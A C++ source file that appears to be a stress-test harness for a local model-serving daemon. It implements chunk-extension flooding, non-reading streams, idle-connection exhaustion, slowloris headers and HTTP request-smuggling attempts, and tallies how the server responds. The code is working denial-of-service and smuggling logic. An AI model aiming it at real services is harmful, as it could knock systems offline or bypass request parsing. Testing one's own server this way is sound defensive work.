#include "attacks.hpp"

#include "raw_socket.hpp"

#include <boost/asio/io_context.hpp>
#include <map>
#include <memory>
#include <thread>
#include <vector>

namespace mh::attack {

namespace {

using Seconds = std::chrono::seconds;

std::string post_head(const std::string& model, const std::string& headers) {
  return "POST /v1/models/" + model +
         "/predict HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n" + headers +
         "\r\n";
}

// "HTTP/1.1 400" -> "400"; "closed" when nothing came.
std::string first_status(const std::string& received) {
  if (received.rfind("HTTP/1.", 0) != 0 || received.size() < 12) return "none";
  return received.substr(9, 3);
}

std::string tally(const std::map<std::string, std::size_t>& counts) {
  std::string text;
  for (const auto& [status, count] : counts) {
    if (!text.empty()) text += ", ";
    text += status + " x" + std::to_string(count);
  }
  return text.empty() ? "nothing" : text;
}

// Opens up to `count` connections (stops at the first that fails: our own descriptor limit).
std::vector<std::unique_ptr<RawSocket>> open_many(boost::asio::io_context& io,
                                                  const AttackSettings& settings, std::size_t count,
                                                  bool read, int receive_buffer = 0) {
  std::vector<std::unique_ptr<RawSocket>> sockets;
  for (std::size_t i = 0; i < count; ++i) {
    try {
      sockets.push_back(std::make_unique<RawSocket>(io, settings.target, read, receive_buffer));
    } catch (const std::exception&) {
      break;
    }
  }
  return sockets;
}

}  // namespace

std::string chunk_extension_flood(const AttackSettings& settings) {
  boost::asio::io_context io;
  const auto end = Clock::now() + settings.duration;
  const std::string piece(64 * 1024, 'e');
  std::size_t sent = 0;
  std::size_t connections = 0;
  std::map<std::string, std::size_t> replies;
  while (Clock::now() < end) {
    try {
      RawSocket socket(io, settings.target, true);
      ++connections;
      if (!socket.send(post_head(settings.model, "Transfer-Encoding: chunked\r\n") + "1;x=",
                       milliseconds(2000))) {
        continue;
      }
      while (Clock::now() < end && socket.send(piece, milliseconds(2000))) sent += piece.size();
      socket.wait_closed(milliseconds(3000));
      ++replies[first_status(socket.received())];
    } catch (const std::exception&) {
      std::this_thread::sleep_for(milliseconds(50));
    }
  }
  return "sent " + std::to_string(sent >> 20) + " MiB of extension on " +
         std::to_string(connections) + " connection(s); replies: " + tally(replies);
}

std::string non_reading_streams(const AttackSettings& settings) {
  boost::asio::io_context io;
  const std::string body = R"({"stream": true, "chunks": 100000000})";
  const std::string request =
      post_head(settings.model, "Content-Length: " + std::to_string(body.size()) + "\r\n") + body;
  auto sockets = open_many(io, settings, 8, false, 4096);
  for (auto& socket : sockets) socket->send(request, milliseconds(2000));
  std::this_thread::sleep_for(settings.duration);
  std::size_t closed = 0;
  for (auto& socket : sockets) {
    // Read now: a socket hostd cut shows its end after the bytes already in flight.
    if (socket->wait_closed(milliseconds(200))) ++closed;
  }
  return std::to_string(sockets.size()) + " stream(s) never read for " +
         std::to_string(settings.duration.count()) +
         " s; closed by hostd when read afterwards: " + std::to_string(closed);
}

std::string idle_unauthenticated(const AttackSettings& settings) {
  boost::asio::io_context io;
  auto sockets = open_many(io, settings, settings.connections, true);
  for (auto& socket : sockets) {
    socket->send(post_head(settings.model, "Content-Length: 1048576\r\n"), milliseconds(500));
  }
  std::this_thread::sleep_for(settings.duration);
  std::map<std::string, std::size_t> replies;
  for (auto& socket : sockets) {
    socket->poll(milliseconds(1));
    ++replies[socket->closed() ? first_status(socket->received()) + "+closed"
                               : first_status(socket->received()) + "+open"];
  }
  return std::to_string(sockets.size()) + " connection(s) announcing 1 MiB: " + tally(replies);
}

std::string slowloris_heads(const AttackSettings& settings) {
  boost::asio::io_context io;
  auto sockets = open_many(io, settings, settings.connections, true);
  const std::string head = "GET /v2/health/live HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ";
  const auto end = Clock::now() + settings.duration;
  std::size_t offset = 0;
  while (Clock::now() < end) {
    for (auto& socket : sockets) {
      if (socket->closed()) continue;
      socket->send(std::string(1, offset < head.size() ? head[offset] : 'a'), milliseconds(50));
      socket->poll(milliseconds(0));
    }
    ++offset;
    std::this_thread::sleep_for(milliseconds(1000));
  }
  std::map<std::string, std::size_t> replies;
  for (auto& socket : sockets) {
    socket->poll(milliseconds(1));
    ++replies[socket->closed() ? first_status(socket->received()) + "+closed"
                               : first_status(socket->received()) + "+open"];
  }
  return std::to_string(sockets.size()) + " slow head(s), one byte per second: " + tally(replies);
}

std::string smuggling(const AttackSettings& settings) {
  boost::asio::io_context io;
  const auto end = Clock::now() + settings.duration;
  const std::string smuggled = "GET /v2/health/live HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
  const char* framings[] = {"Transfer-Encoding: gzip\r\n", "Transfer-Encoding: gzip, chunked\r\n",
                            "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n"};
  std::size_t attempts = 0;
  std::size_t smuggled_answers = 0;
  std::map<std::string, std::size_t> replies;
  for (std::size_t i = 0; Clock::now() < end && i < 10000; ++i) {
    try {
      RawSocket socket(io, settings.target, true);
      socket.send(post_head(settings.model, framings[i % 3]) + "0\r\n\r\n" + smuggled,
                  milliseconds(1000));
      socket.wait_closed(milliseconds(1000));
      ++attempts;
      ++replies[first_status(socket.received())];
      const std::string& got = socket.received();
      if (got.find("HTTP/1.", 1) != std::string::npos) ++smuggled_answers;
    } catch (const std::exception&) {
      std::this_thread::sleep_for(milliseconds(50));
    }
  }
  return std::to_string(attempts) + " attempt(s); replies: " + tally(replies) +
         "; smuggled requests answered: " + std::to_string(smuggled_answers);
}

}  // namespace mh::attack
